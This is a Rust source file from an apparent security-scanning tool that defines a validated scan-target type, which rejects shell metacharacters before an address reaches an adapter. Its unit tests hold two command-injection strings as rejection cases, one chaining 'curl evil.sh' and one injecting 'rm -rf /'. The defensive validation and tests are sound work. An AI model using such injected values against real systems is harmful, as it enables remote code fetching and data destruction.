// SPDX-License-Identifier: MIT OR Apache-2.0
//! The [`Target`] value: a textual address validated against the shell
//! metacharacter / address-grammar whitelist before it can reach an adapter.

use crate::validate::validate_target_address;
use neosec_error::NeoSecError;
use serde::{Deserialize, Serialize};
use std::fmt;

/// A validated scan target: an IPv4/IPv6 address, a CIDR range, a hostname,
/// or a URL.
///
/// Construction always goes through [`Target::parse`], so a live `Target`
/// value is a proof that the address passed the whitelist.
#[derive(Debug, Clone, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(try_from = "String", into = "String")]
pub struct Target(String);

impl Target {
    /// Validate `address` and wrap it as a `Target`.
    pub fn parse(address: impl Into<String>) -> Result<Self, NeoSecError> {
        let address = address.into();
        validate_target_address(&address)?;
        Ok(Self(address))
    }

    /// The validated textual address.
    pub fn as_str(&self) -> &str {
        &self.0
    }
}

impl fmt::Display for Target {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

impl TryFrom<String> for Target {
    type Error = NeoSecError;

    fn try_from(value: String) -> Result<Self, Self::Error> {
        Target::parse(value)
    }
}

impl From<Target> for String {
    fn from(value: Target) -> Self {
        value.0
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn parse_accepts_valid_hostname() {
        let t = Target::parse("example.com").unwrap();
        assert_eq!(t.as_str(), "example.com");
    }

    #[test]
    fn parse_rejects_injection_attempt() {
        assert!(Target::parse("example.com && curl evil.sh").is_err());
    }

    #[test]
    fn serde_roundtrip() {
        let t = Target::parse("10.0.0.1").unwrap();
        let json = serde_json::to_string(&t).unwrap();
        assert_eq!(json, "\"10.0.0.1\"");
        let back: Target = serde_json::from_str(&json).unwrap();
        assert_eq!(back, t);
    }

    #[test]
    fn serde_rejects_invalid_on_deserialize() {
        let result: Result<Target, _> = serde_json::from_str("\"; rm -rf /\"");
        assert!(result.is_err());
    }
}
